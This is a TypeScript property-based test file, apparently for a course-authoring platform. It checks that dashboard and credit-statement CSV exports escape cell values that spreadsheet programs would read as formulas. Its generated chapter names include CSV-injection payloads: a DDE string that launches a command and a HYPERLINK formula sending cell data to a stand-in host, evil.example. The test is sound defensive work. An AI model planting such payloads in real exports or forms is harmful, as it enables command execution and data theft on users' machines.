import { createChapter, createProject } from "@coursewright/contract/courses.ts";
import { deductCredits, exportStatement } from "@coursewright/contract/credits.ts";
import { exportDashboard } from "@coursewright/contract/dashboard.ts";
import fc from "fast-check";
import { expect, it } from "vitest";
import { enrol, type Retries } from "./from-outside.ts";

const retries: Retries = { count: 0 };

const names = fc
  .tuple(
    fc.constantFrom("", "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", '"', ",=", '",=', ";=", "'="),
    fc.oneof(
      fc.constantFrom("cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/"&A1)', "1+1", "SUM(A1:A9)"),
      fc.string({ maxLength: 20 }),
    ),
  )
  .map((parts) => parts.join(""))
  .filter((name) => name.trim() !== "" && !name.includes("\0"));
const chapters = 120;
const lanes = 6;

it("starts no cell of an export like a formula, whatever names a course has", async () => {
  const author = await enrol({ retries });
  const { uid } = author;
  const [first = "", ...rest] = fc.sample(names, { numRuns: chapters, seed: 20_260_101 });
  const { id: projectId } = await author.call(createProject, { params: { uid }, body: { name: first } });
  const waiting = [...rest];
  const lane = async () => {
    for (let name = waiting.pop(); name !== undefined; name = waiting.pop()) {
      await author.call(createChapter, { params: { uid, projectId }, body: { name } });
    }
  };
  await Promise.all(Array.from({ length: lanes }, lane));
  await author.send({ path: deductCredits.path, method: "POST", headers: { "idempotency-key": "=1:1" }, body: { amount: 1 } });
  await author.send({ path: deductCredits.path, method: "POST", headers: { "idempotency-key": "-1.1:1" }, body: { amount: 1 } });

  const dashboard = await author.send({ path: exportDashboard.path.replace(":uid", uid).replace(":projectId", projectId) });
  const statement = await author.send({ path: exportStatement.path.replace(":uid", uid) });
  expect([dashboard.status, statement.status]).toEqual([200, 200]);
  for (const { headers } of [dashboard, statement]) {
    expect([headers["x-content-type-options"], headers["content-disposition"]]).toEqual(["nosniff", expect.stringMatching(/^attachment/)]);
  }
  const cells = [...cellsOf(dashboard.text), ...cellsOf(statement.text)];
  console.log(
    JSON.stringify({
      attack: 19,
      retries: retries.count,
      names: rest.length,
      cells: cells.length,
      formulas: cells.filter(isFormula).length,
    }),
  );
  expect(cells.filter(isFormula)).toEqual([]);
  expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThan(chapters / 3);
});

it("would detect a formula, quoted or not", () => {
  expect(cellsOf('a,=1+1\r\n"=1,""x""",-1.5\r\n').filter(isFormula)).toEqual(["=1+1", '=1,"x"']);
});

/** Follows the rules of spreadsheet programs. Numbers are allowed, also negative ones. */
function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell);
}

/** Parses by RFC 4180. */
function cellsOf(csv: string): string[] {
  return [...csv.matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n"]*))(?:,|\r\n|$)/g)].map(
    ([, quoted, plain = ""]) => quoted?.replaceAll('""', '"') ?? plain,
  );
}
